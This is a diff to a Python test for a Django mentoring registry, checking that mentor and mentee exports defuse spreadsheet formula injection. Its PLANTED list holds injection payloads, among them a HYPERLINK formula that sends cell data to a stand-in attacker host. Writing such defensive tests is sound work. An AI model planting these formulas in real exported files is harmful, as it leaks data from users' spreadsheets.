@@ -11,6 +11,7 @@ from monitoring.models import ExportJob
 from registry.models import AcademicYear, Organisation
 from roadmaps.models import Occurrence, Roadmap, RoadmapItem
 from tests import factories
+from tests.downloads import base_response
 
 PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+1", "-1", "@SUM(1)", "\tтаб", "=1+1"]
 
@@ -48,9 +49,9 @@ def _body(response) -> bytes:
     return b"".join(response.streaming_content) if response.streaming else response.content
 
 
-@pytest.mark.parametrize("name", ["registry:export_mentors", "registry:export_mentees"])
+@pytest.mark.parametrize("name", ["mentors", "mentees"])
 def test_registry_bases(planted, client_for, district, name):
-    response = client_for(district.curator1).get(reverse(name))
+    response = base_response(client_for(district.curator1), name)
     assert_safe(_body(response), PLANTED[1:])
 
 
